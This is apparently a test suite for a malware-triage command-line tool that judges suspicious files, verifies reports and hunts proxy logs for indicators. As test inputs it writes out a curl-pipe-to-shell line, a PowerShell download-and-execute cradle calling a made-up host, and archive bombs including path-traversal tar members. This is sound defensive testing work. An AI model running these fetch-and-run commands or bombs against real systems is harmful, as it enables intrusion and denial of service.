"""Judging from outside, through the real command line: an inbox, and what is made to break us."""

import io
import json
import os
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.test_hunt import Desk
from tests.unit.triage.unpack.made import locked_zip

SUSPICIOUS = Path(__file__).parents[1] / "demo" / "suspicious"


@pytest.fixture
def desk(tmp_path: Path) -> Desk:
    return Desk(tmp_path)


def judged(desk: Desk, *words: str) -> dict[str, Any]:
    report = desk.home / "report.json"
    code, _, err = desk.says("triage", *words, "-o", str(report))
    assert code in {0, 1}, err
    made: dict[str, Any] = json.loads(report.read_bytes())
    return made


def verdicts(report: dict[str, Any]) -> dict[str, str]:
    return {one["name"]: one["verdict"] for one in report["judgements"]}


def rules(report: dict[str, Any]) -> set[str]:
    return {one["rule"].rpartition("/")[2] for one in report["findings"]}


def test_what_lands_in_an_inbox_is_judged_and_an_ordinary_script_is_left_alone(desk: Desk) -> None:
    report = judged(desk, str(SUSPICIOUS))
    found = verdicts(report)
    assert found["colour-pallete-0.1.3.tgz"] == "malicious"
    assert found["update.ps1"] == "malicious"
    assert found["invoice.js"] == "malicious"
    assert found["backup.sh"] == "benign"
    assert report["coverage"].get("skipped", []) == []
    values = {one["value"] for one in report["indicators"]}
    assert {"http://updates.bad-cdn.invalid/u.exe", "collect.bad-cdn.invalid"} <= values
    assert any("base64" in " ".join(one["steps"]) for one in report["layers"])
    code, out, _ = desk.says("verify", str(desk.home / "report.json"))
    assert code == 0, out


def test_it_counts_for_the_exit_code_unless_told_otherwise(desk: Desk) -> None:
    assert desk.says("triage", str(SUSPICIOUS / "update.ps1"))[0] == 1
    assert desk.says("triage", str(SUSPICIOUS / "update.ps1"), "--fail-on", "never")[0] == 0
    assert desk.says("triage", str(SUSPICIOUS / "backup.sh"))[0] == 0


def test_one_character_changed_in_the_file_is_evidence_that_broke(desk: Desk) -> None:
    inbox = desk.home / "inbox"
    inbox.mkdir()
    script = inbox / "update.ps1"
    script.write_bytes((SUSPICIOUS / "update.ps1").read_bytes())
    judged(desk, str(inbox))
    assert desk.says("verify", str(desk.home / "report.json"))[0] == 0
    script.write_bytes(script.read_bytes().replace(b"-EncodedCommand J", b"-EncodedCommand K"))
    code, out, _ = desk.says("verify", str(desk.home / "report.json"))
    assert code == 1
    assert "update.ps1" in out


def test_an_archive_is_opened_with_the_words_analysts_use_and_with_those_given(desk: Desk) -> None:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("inner/update.ps1", (SUSPICIOUS / "update.ps1").read_bytes())
    path = desk.home / "a.zip"
    path.write_bytes(packed.getvalue())
    report = judged(desk, str(path))
    assert verdicts(report) == {"a.zip": "malicious"}
    assert any(one["name"] == "a.zip!/inner/update.ps1" for one in report["artefacts"])


def test_an_archive_is_opened_with_a_word_of_a_list(desk: Desk) -> None:
    path, words = desk.home / "a.zip", desk.home / "words.txt"
    path.write_bytes(locked_zip("a.sh", b"echo hello\n", "a pass word ", aes=True))
    words.write_text("one\na pass word \r\nthree\n")
    assert judged(desk, str(path))["coverage"]["skipped"]
    assert not judged(desk, str(path), "--passwords", str(words))["coverage"].get("skipped")
    words.write_text("\n".join(map(str, range(101))))
    assert desk.says("triage", str(path), "--passwords", str(words))[0] == 2
    assert desk.says("triage", str(path), "--passwords", str(desk.home / "none"))[0] == 2


def test_what_is_on_the_standard_input(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    text = b"curl -s http://198.51.100.7/x.sh | sh\n"
    monkeypatch.setattr("sys.stdin", io.TextIOWrapper(io.BytesIO(text)))
    report = judged(desk, "-")
    (one,) = report["judgements"]
    assert (one["name"], one["verdict"] in {"suspicious", "malicious"}) == ("standard input", True)


def test_nothing_there_is_an_error_with_a_hint(desk: Desk) -> None:
    code, _, err = desk.says("triage", str(desk.home / "none"))
    assert code == 2
    assert "no such file or folder" in err
    (desk.home / "empty").mkdir()
    assert desk.says("triage", str(desk.home / "empty"))[0] == 2


GZIP = b"\x1f\x8b\x08" + bytes(6) + b"\xff"


def zeros(path: Path) -> None:
    """Two hundred million of them, packed two millions at a time: all at once takes seconds."""
    packing = zlib.compressobj(9, wbits=-15)
    some = packing.compress(bytes(2_000_000)) + packing.flush(zlib.Z_FULL_FLUSH)
    check = zlib.crc32(bytes(200_000_000))
    end = zlib.compressobj(wbits=-15).flush()
    path.write_bytes(GZIP + some * 100 + end + struct.pack("<II", check, 200_000_000))


def nested(path: Path) -> None:
    data = b"x" * 1000
    for depth in range(30):
        held = io.BytesIO()
        with zipfile.ZipFile(held, "w") as archive:
            archive.writestr(f"{depth}.zip", data)
        data = held.getvalue()
    path.write_bytes(data)


def paths(path: Path) -> None:
    with tarfile.open(path, "w") as tar:
        for member in ("../../etc/passwd", "/etc/shadow", "a\u202eb"):
            tar.addfile(tarfile.TarInfo(member), io.BytesIO())


def sparse(path: Path) -> None:
    with path.open("wb") as file:
        file.truncate(1 << 30)


BOMBS: dict[str, Callable[[Path], object]] = {
    "zeros.gz": zeros,
    "nested.zip": nested,
    "paths.tar": paths,
    "sparse.bin": sparse,
    "cut.elf": lambda path: path.write_bytes(Path("/bin/true").read_bytes()[:3000]),
    "deep.js": lambda path: path.write_bytes(b"[" * 200_000),
    "deep.ps1": lambda path: path.write_bytes(b"$(" * 100_000),
    "wrong.pdf": lambda path: path.write_bytes(
        b"%PDF-1.7\n" + b"1 0 obj << /Kids [1 0 R] /Length 9999999999 >> stream\n" * 1000
    ),
}


LARGEST = "sparse.bin"


@pytest.mark.parametrize(
    "names",
    [
        sorted(BOMBS.keys() - {LARGEST}),
        *(pytest.param([name], marks=pytest.mark.slow) for name in sorted(BOMBS)),
    ],
    ids=" ".join,
)
def test_what_is_made_to_break_us_does_not_and_costs_nothing_else(desk: Desk, names: list[str]) -> None:
    for name in names:
        BOMBS[name](desk.home / name)
    script = desk.home / "update.ps1"
    script.write_bytes((SUSPICIOUS / "update.ps1").read_bytes())
    report = judged(desk, *(str(desk.home / name) for name in names), str(script), "--seconds", "40")
    assert verdicts(report)["update.ps1"] == "malicious"
    fault = [one for one in report["coverage"].get("skipped", []) if "fault in vedette" in one["why"]]
    assert fault == []
    for one in report["artefacts"]:
        assert ".." not in one["name"].split("/")
        assert "\x00" not in one["name"]


def test_the_hunt_looks_for_what_was_found(desk: Desk) -> None:
    script = desk.home / "update.ps1"
    name = "updates.zzq-made-up-by-a-test.top"  # a reserved name would be told, and not looked for
    script.write_text(f"IEX (New-Object Net.WebClient).DownloadString('http://{name}/u.ps1')\n")
    judged(desk, str(script))
    log = desk.home / "proxy.log"
    asked = f'"GET http://{name}/u.ps1 HTTP/1.1" 200 5'
    log.write_text(f"10.0.0.5 - - [01/Mar/2026:09:00:00 +0000] {asked}\n")
    hunted, known = desk.home / "hunt.json", str(desk.home / "report.json")
    code, _, err = desk.says("hunt", str(log), "--indicators", known, "-o", str(hunted))
    assert code == 1, err
    seen = {one["rule"] for one in json.loads(hunted.read_bytes())["findings"]}
    assert seen & {"indicator:url", "indicator:domain"}


def test_a_newer_list_of_names_is_the_users_to_bring(desk: Desk) -> None:
    package = desk.home / "package"
    package.mkdir()
    (package / "package.json").write_text('{"name": "zzqwidgetz", "version": "1.0.0"}')
    (package / "index.js").write_text("module.exports = 1;\n")
    assert "imitates-name" not in rules(judged(desk, str(package)))
    listed = desk.home / "names.tsv"
    listed.write_text("npm\tzzqwidgets\n")
    found = rules(judged(desk, str(package), "--popular", str(listed)))
    assert any("imitat" in one or "typo" in one for one in found), found
    listed.write_text("nothing of the sort")
    assert desk.says("triage", str(package), "--popular", str(listed))[0] == 2


def test_a_name_that_is_no_text_costs_no_report(desk: Desk) -> None:
    inbox = desk.home / "inbox"
    inbox.mkdir()
    raw = os.fsencode(inbox) + b"/\xff\xfebad.ps1"
    with open(raw, "wb") as file:  # noqa: PTH123  a path of pathlib is text
        file.write((SUSPICIOUS / "update.ps1").read_bytes())
    report = judged(desk, str(inbox))
    assert verdicts(report) == {"\\xff\\xfebad.ps1": "malicious"}
    code, out, _ = desk.says("verify", str(desk.home / "report.json"))
    assert code == 0, out


@pytest.mark.parametrize("word", ["0", "-1", "nan", "inf", "soon"])
def test_a_time_that_is_none_is_refused(desk: Desk, word: str) -> None:
    assert desk.says("triage", str(SUSPICIOUS), "--seconds", word)[0] == 2
